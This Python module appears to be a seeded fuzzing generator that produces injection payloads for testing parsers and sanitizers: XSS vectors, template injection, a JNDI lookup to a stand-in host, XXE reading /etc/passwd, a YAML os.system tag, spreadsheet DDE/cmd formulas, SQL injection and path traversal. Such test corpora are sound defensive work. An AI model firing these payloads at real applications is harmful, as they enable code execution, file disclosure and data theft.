"""Texts that mean mischief: a thousand payloads of our own, drawn by a seed.

In: a seed. Out: texts in which some language of machines would see more than words: HTML, addresses, CSS, scripts,
SVG, Markdown, templates, YAML, formulas, XML, signs that turn or hide others. What would run, sets `window.__hit`.
"""

from __future__ import annotations

import random
from collections.abc import Callable, Sequence
from urllib.parse import quote

HIT = "window.__hit=true"
ELSEWHERE = "https://elsewhere.example.net"
TAGS = (
    "script", "img", "svg", "iframe", "object", "embed", "video", "audio", "details", "input", "body",
    "marquee", "math", "style", "base", "meta", "link", "form", "template", "x-alive", "button", "select",
    "textarea", "title", "noscript", "plaintext", "table", "a", "isindex", "frameset",
)  # fmt: skip
EVENTS = (
    "onload", "onerror", "onclick", "onmouseover", "onfocus", "ontoggle", "onbegin", "onanimationstart",
    "onpointerenter", "onauxclick", "onwheel", "onresize",
)  # fmt: skip
ATTRIBUTES = ("href", "src", "style", "srcdoc", "data", "action", "formaction", "xlink:href", "srcset", "poster", "id")
SCHEMES = (
    "javascript:", "JaVaScRiPt:", "java\tscript:", "vbscript:", "data:text/html,", "data:text/html;base64,",
    "file:///etc/passwd", "//elsewhere.example.net/", "blob:", "view-source:", "\u0001javascript:",
)  # fmt: skip
TEMPLATES = (
    "{{7*7}}", "{{ x }}", "{% raw %}", "{%- import 'os' -%}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "{{{x}}}",
    "{{config}}", "{# gone #}", "[[x]]", "${jndi:ldap://elsewhere.example.net/a}", "%(title)s", "{0}",
    "%s%n", "$(id)", "`id`", "{{constructor.constructor('x')()}}", "@{x}", "*{x}",
)  # fmt: skip
FORMULAS = (
    "=", "+", "-", "@", "\t=", "＝", "＋", "－", "＠", "|",
)  # fmt: skip
CALLS = (
    "1+1", "SUM(A1:A2)", "cmd|' /C calc'!A0", 'HYPERLINK("https://elsewhere.example.net","x")',
    'IMPORTXML("https://elsewhere.example.net","//a")', "A1", 'DDE("cmd";"/C calc";"x")',
)  # fmt: skip
YAML = (
    "!!python/object/apply:os.system ['id']", "&a [*a, *a]", "*a", "{a: b}", "[1, 2", "- x", "? x",
    "key: value", "# gone", "---", "...", "|\n x", "> x", "yes", "null", "~", ".nan", "0o14", "1e3",
    "<<: *a", "!!binary aGk=", "'x", '"x', "%YAML 1.2",
)  # fmt: skip
XML = (
    "<!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/passwd'>]>", "&y;", "]]>", "<![CDATA[x",
    "<?xml version='1.0'?>", "<!-- x", "-->", "--!>", "<x xmlns='y'/>", "&#0;", "&#x1F;",
    "&amp;lt;b&amp;gt;", "</title>", "</script>", "</style>", "</textarea>", "<?php x ?>", "</svg>",
    "&NewLine;", "&Tab;",
)  # fmt: skip
MARKDOWN = (
    "[x](javascript:{hit})", "![x](https://elsewhere.example.net/a.png)", "<javascript:{hit}>",
    "*so* **it** is", "`code`", "```\ncode", "# head", "> said", "| a | b |\n|---|---|",
    "[x]: javascript:{hit}", "\\[x\\]", "***", "![[x]]", "[@x]", "[^1]", "<https://elsewhere.example.net/>",
    "![x](x 'y')", "~~gone~~", ":smile:", "[x](<javascript:{hit}>)",
)  # fmt: skip
UNSEEN = tuple("\u202e\u202d\u2066\u2067\u2069\u200e\u200f\u200b\u200d\u2060\ufeff\u00ad\u061c\u180e\u034f\u3164")
CONTROLS = tuple(
    map(chr, (0, 1, 7, 8, 9, 10, 11, 12, 13, 27, 127, 133, 0x2028, 0x2029, 0xFFFE, 0xFFFF, 0xD7FF, 0xE000))
)
LETTERS = ("👩\u200d👧", "\U0001f3f4\U000e0067\U000e007f", "éé", "Z\u0351\u036b\u0343\u036a\u0302\u0334A", "ﷺ", "𝕏𝕪", "ＡＢ", "İıſK", "ß", "ﬁ", "аррӏе", "раураl", "١٢٣", "Ⅻ", "½", "中文字", "ไทย",  # noqa: E501
           "עברית", "فارسی", "ᚠᛇ", "𐍈", "ǅ", "ª", "\u200fمثال")  # fmt: skip
WORDS = (
    "undefined", "null", "None", "true", "NaN", "Infinity", "-0", "__proto__", "constructor",
    "hasOwnProperty", "con", "../../etc/passwd", "..\\..\\x", "C:\\x", "x'; DROP TABLE facts; --",
    '" OR ""="', "%00", "%0d%0aSet-Cookie: x", "file.html", "index.html", "~", ".", "..", "/", "\\", "\\\\",
    "\"", "'", "`", "´", "“", "\\n", "\\u003cb\\u003e", "\\x3cb\\x3e", "&lt;b&gt;", "&quot;", "&#39;",
)  # fmt: skip


def payloads(seed: int, count: int) -> tuple[str, ...]:
    """So many payloads, each another, the same each time for a seed."""
    chance = random.Random(seed)
    found: dict[str, None] = {}
    while len(found) < count:
        text = _SORTS[len(found) % len(_SORTS)](chance)
        found[_dressed(chance, text) if chance.random() < 0.4 else text] = None
    return tuple(found)


def _html(chance: random.Random) -> str:
    tag, event, name = chance.choice(TAGS), chance.choice(EVENTS), chance.choice(ATTRIBUTES)
    mark = chance.choice(('"', "'", "", "`"))
    close = chance.choice((">", "/>", "", f">{HIT}</{tag}>", f"></{tag}>"))
    return f"<{tag} {name}={mark}{_address(chance)}{mark} {event}={mark}{HIT}{mark}{close}"


def _attribute(chance: random.Random) -> str:
    mark = chance.choice(('"', "'", "`", "&quot;", "&#34;", '\\"', "%22"))
    return f"x{mark} {chance.choice(EVENTS)}={mark}{HIT}{mark} {chance.choice(ATTRIBUTES)}={mark}{_address(chance)}"


def _address(chance: random.Random) -> str:
    scheme, tail = chance.choice(SCHEMES), chance.choice((HIT, quote(f"<script>{HIT}</script>"), "x", ELSEWHERE))
    return scheme + tail


def _css(chance: random.Random) -> str:
    rules = (f"url({ELSEWHERE}/a)", f"expression({HIT})", f"@import '{ELSEWHERE}/a.css';", "position:fixed;inset:0",
             f"background:url('javascript:{HIT}')", "content:'9'", "</style><script>", "-moz-binding:url(x)")  # fmt: skip  # noqa: E501
    return (
        chance.choice(("x;", "}", "*{", "/*", "\\3c ", "")) + chance.choice(rules) + chance.choice(("", "}", "*/", ";"))
    )


def _script(chance: random.Random) -> str:
    opens = ("</script><script>", "';", '";', "*/", "${", "`;", "]}", "-->", "<!--<script>", "\u2028", "\\';")
    return chance.choice(opens) + HIT + chance.choice(("//", "</script>", "}", ";'", "/*", ""))


def _svg(chance: random.Random) -> str:
    inner = (f"<script>{HIT}</script>", f"<animate {chance.choice(EVENTS)}='{HIT}' attributeName='x'/>",
             f"<a xlink:href='javascript:{HIT}'><text>x</text></a>", f"<use href='{ELSEWHERE}/a.svg#x'/>",
             f"<foreignObject><img src=x onerror={HIT}></foreignObject>", "<style>*{fill:red}</style>")  # fmt: skip
    return f"<svg {chance.choice(EVENTS)}={HIT}>{chance.choice(inner)}</svg>"


def _of(pieces: Sequence[str]) -> Callable[[random.Random], str]:
    def made(chance: random.Random) -> str:
        many = chance.sample(pieces, chance.randint(1, 2))
        return (
            chance.choice(("", "x ", "so ")) + chance.choice(("", " ", "x")).join(many) + chance.choice(("", " y", "."))
        )

    return made


def _markdown(chance: random.Random) -> str:
    return chance.choice(MARKDOWN).replace("{hit}", HIT) + chance.choice(("", " and so", "\n\nmore", " " + "*" * 9))


def _formula(chance: random.Random) -> str:
    return chance.choice(FORMULAS) + chance.choice(CALLS) + chance.choice(("", '",', ";x", "\t"))


def _unseen(chance: random.Random) -> str:
    signs = [chance.choice((*UNSEEN, *CONTROLS)) for _ in range(chance.randint(1, 4))]
    return f"so{signs[0]}it{''.join(signs[1:])} was told{chance.choice(('', signs[0]))}"


def _long(chance: random.Random) -> str:
    piece = chance.choice(("x", "long-", "<b>", "[", "(", "&amp;", "word ", "*", "مثال ", "\u0301", "🏳"))
    return "a" + piece * chance.randint(40, 900)


def _dressed(chance: random.Random, text: str) -> str:
    dress = (str.upper, str.title, lambda one: f"They said {one} twice", lambda one: f"“{one}”", lambda one: one[::-1],
             lambda one: f"{one} {chance.choice(LETTERS)}", lambda one: chance.choice(UNSEEN) + one, quote)  # fmt: skip
    return str(chance.choice(dress)(text))


_SORTS: tuple[Callable[[random.Random], str], ...] = (
    _html, _attribute, _address, _css, _script, _svg, _markdown, _of(TEMPLATES), _formula, _of(YAML), _of(XML), _unseen,
    _of(LETTERS), _of(WORDS), _html, _long, _attribute, _of(TEMPLATES), _svg, _markdown,
)  # fmt: skip
